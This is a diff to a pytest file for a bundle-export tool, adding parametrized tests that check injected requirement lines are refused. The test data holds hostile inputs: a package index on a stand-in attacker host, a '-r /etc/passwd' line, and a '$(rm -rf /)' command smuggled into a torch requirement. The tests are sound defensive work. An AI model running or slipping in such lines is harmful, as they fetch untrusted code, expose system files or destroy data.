@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import errno
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -92,17 +93,42 @@ def test_full_disk_leaves_no_partial_bundle(
     assert list(tmp_path.iterdir()) == []
 
 
-def test_plan_with_injected_requirement_is_refused(tmp_path: Path, kb: KnowledgeBase) -> None:
+@pytest.mark.parametrize(
+    ("line", "message"),
+    [
+        ("--index-url http://evil.example/simple", "--index-url URL"),
+        ("-r /etc/passwd", "requirement line"),
+        ("torch==2.9.1 ; $(rm -rf /)", "requirement line"),
+    ],
+)
+def test_plan_with_injected_requirement_is_refused(
+    tmp_path: Path, kb: KnowledgeBase, line: str, message: str
+) -> None:
     plan = load_plan("linux_single_gpu_pytorch")
     assert plan.stack is not None
-    stack = plan.stack.model_copy(
-        update={"requirement_lines": ["--index-url http://evil.example/ torch"]}
-    )
-    with pytest.raises(ExportError, match="requirement line"):
+    stack = plan.stack.model_copy(update={"requirement_lines": [line, "numpy==2.3.5"]})
+    with pytest.raises(ExportError, match=re.escape(message)):
         export_bundle(
-            plan.model_copy(update={"stack": stack}), tmp_path / "out", kb=kb, write_pdf=_fake_pdf
+            plan.model_copy(update={"stack": stack}),
+            tmp_path / "out",
+            kb=kb,
+            write_pdf=_fake_pdf,
         )
     assert list(tmp_path.iterdir()) == []
+
+
+def test_index_lines_in_the_plan_become_one_index(tmp_path: Path, kb: KnowledgeBase) -> None:
+    plan = load_plan("linux_single_gpu_pytorch")
+    assert plan.stack is not None
+    url = "https://download.pytorch.org/whl/cu128"
+    stack = plan.stack.model_copy(
+        update={"index_url": url, "requirement_lines": [f"--index-url {url}", "torch==2.9.1"]}
+    )
+    export_bundle(
+        plan.model_copy(update={"stack": stack}), tmp_path / "o", kb=kb, write_pdf=_fake_pdf
+    )
+    text = (tmp_path / "o" / "requirements.txt").read_text()
+    assert text.count(url) == 1 and f"--index-url {url}\n" in text
 
 
 def test_plan_with_injected_image_is_refused(tmp_path: Path, kb: KnowledgeBase) -> None:
